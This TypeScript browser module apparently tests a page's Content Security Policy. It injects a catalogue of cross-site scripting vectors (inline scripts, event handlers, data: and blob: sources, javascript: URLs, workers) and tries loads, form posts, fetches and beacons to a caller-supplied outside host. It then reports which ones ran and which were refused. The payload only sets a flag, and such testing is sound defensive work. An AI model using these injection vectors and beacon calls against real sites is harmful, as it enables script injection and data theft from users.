// What somebody who found a way to put markup into a page would try there. Each stands by itself: it runs in the browser.

/** For a page, before it begins: it keeps what its policy forbids. */
export function watchesPolicy(): void {
  const forbidden: string[] = [];
  Object.assign(globalThis, { forbidden });
  document.addEventListener('securitypolicyviolation', (fault) =>
    forbidden.push(`${fault.effectiveDirective} ${fault.blockedURI}`),
  );
}

/** Puts in scripts of every kind, and whatever leads to another site; answers what ran, and which rules refused something. */
export async function injects(elsewhere: string): Promise<{ ran: string[]; refused: string[] }> {
  const refused = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
  const world = globalThis as unknown as { harmed?: boolean };
  const put = (name: string, attributes: Record<string, string>) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return made;
  };
  const harm = 'globalThis.harmed = true';
  const data = `data:text/javascript,${harm}`;
  const ways: Record<string, () => unknown> = {
    'a script in the page': () =>
      document.body.append(Object.assign(document.createElement('script'), { textContent: harm })),
    'a handler': () => put('img', { src: 'data:,', onerror: harm }),
    'a handler in markup': () => put('div', {}).insertAdjacentHTML('beforeend', `<svg onload="${harm}"></svg>`),
    'a script of data': () => put('script', { src: data }),
    'a module of data': () => put('script', { src: data, type: 'module' }),
    'a script of a blob': () => put('script', { src: URL.createObjectURL(new Blob([harm])) }),
    'a script of elsewhere': () => put('script', { src: `${elsewhere}/harm.js` }),
    'an address that is a script': () => put('a', { href: `javascript:${harm}` }).click(),
    'a worker of a blob': () => new Worker(URL.createObjectURL(new Blob([harm]))),
    'a picture of elsewhere': () => put('img', { src: `${elsewhere}/harm.png` }),
    'a style of elsewhere': () => put('link', { rel: 'stylesheet', href: `${elsewhere}/harm.css` }),
    'a font of elsewhere': () => new FontFace('harm', `url(${elsewhere}/harm.woff2)`).load().catch(() => undefined),
    'a film of elsewhere': () => put('video', { src: `${elsewhere}/harm.mp4` }),
    'a frame of elsewhere': () => put('iframe', { src: `${elsewhere}/harm` }),
    'an object of elsewhere': () => put('object', { data: `${elsewhere}/harm` }),
    'a base of elsewhere': () => put('base', { href: `${elsewhere}/harm/` }),
    'a form to elsewhere': () =>
      (put('form', { action: `${elsewhere}/harm`, method: 'post' }) as HTMLFormElement).submit(),
    'a call to elsewhere': () => fetch(`${elsewhere}/harm`).catch(() => undefined),
    'a beacon to elsewhere': () => navigator.sendBeacon(`${elsewhere}/harm`, 'kept'),
  };
  const ran: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
    } catch {
      // Refused at once.
    }
    // Whatever runs does so once the page has had a turn or two.
    for (let turn = 0; turn < 5 && !world.harmed; turn++) await new Promise(requestAnimationFrame);
    if (world.harmed) ran.push(name);
    delete world.harmed;
  }
  return { ran, refused: [...refused] };
}
